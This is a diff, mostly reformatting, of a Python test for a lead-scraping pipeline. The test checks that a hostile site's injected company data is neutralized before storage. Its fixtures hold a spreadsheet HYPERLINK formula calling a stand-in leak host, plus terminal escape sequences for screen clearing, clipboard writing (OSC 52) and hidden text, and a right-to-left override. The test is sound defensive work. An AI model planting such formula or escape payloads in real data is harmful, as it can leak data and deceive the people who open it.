@@ -22,13 +22,17 @@ FORMULA = '=HYPERLINK("http://evil.test/?leak","Details")'
 # Clears the screen, plants a hyperlink, writes the clipboard (OSC 52), and reverses what follows (U+202E).
 ESCAPES = "\x1b[2J\x1b]8;;http://evil.test/\x1b\\\x1b]52;c;ZXZpbA==\x07"
 ORGANIZATION = {
-    "@context": "https://schema.org", "@type": "Organization",
+    "@context": "https://schema.org",
+    "@type": "Organization",
     "name": FORMULA + ESCAPES + "\u202eHbmG",
-    "telephone": "+49 30 1234567", "email": "info@hostile-co.test",
+    "telephone": "+49 30 1234567",
+    "email": "info@hostile-co.test",
     "address": "Hauptstr. 1\x1b[8m, 10115 Berlin",
 }
-HOME = (f'<html lang="de"><head><title>Hostile</title><script type="application/ld+json">{json.dumps(ORGANIZATION)}'
-        '</script></head><body><h1>Hostile Co</h1><p>Tel +49 30 1234567</p></body></html>')
+HOME = (
+    f'<html lang="de"><head><title>Hostile</title><script type="application/ld+json">{json.dumps(ORGANIZATION)}'
+    "</script></head><body><h1>Hostile Co</h1><p>Tel +49 30 1234567</p></body></html>"
+)
 CONTROLS = ("\x1b", "\x07", "\x9b", "\u202e")
 
 
@@ -47,15 +51,18 @@ def evaluated(cell: str) -> bool:
 
 
 async def test_a_hostile_sites_formula_and_escape_codes_come_out_inert(
-        settings: Settings, db: Database, scripted_site: support.ScriptedSite, tmp_path: Path) -> None:
+    settings: Settings, db: Database, scripted_site: support.ScriptedSite, tmp_path: Path
+) -> None:
     scripted_site.page("/", HOME)
     cfg = settings.model_copy(update={"resolve": {**settings.resolve, HOST: "127.0.0.1"}})
     job = ScrapeJob(job_id=uuid.uuid4(), targets=[scripted_site.url(HOST)], max_pages=1, render="static")
     await support.publish(cfg, db, [job])
     await support.run_until_idle(cfg, ("scrape", "normalize", "score"), idle=0.8)
 
-    raw = await db.fetchval("SELECT r.record FROM raw_leads r JOIN scrape_job_leads j ON j.raw_lead_id = r.id "
-                            "WHERE j.job_id = $1", job.job_id)
+    raw = await db.fetchval(
+        "SELECT r.record FROM raw_leads r JOIN scrape_job_leads j ON j.raw_lead_id = r.id WHERE j.job_id = $1",
+        job.job_id,
+    )
     assert raw is not None and "\x1b" in raw["company_name"]  # the raw record keeps what the site wrote
     lead = await db.fetchrow("SELECT id, company_name, address FROM leads WHERE domain = $1", HOST)
     assert lead is not None
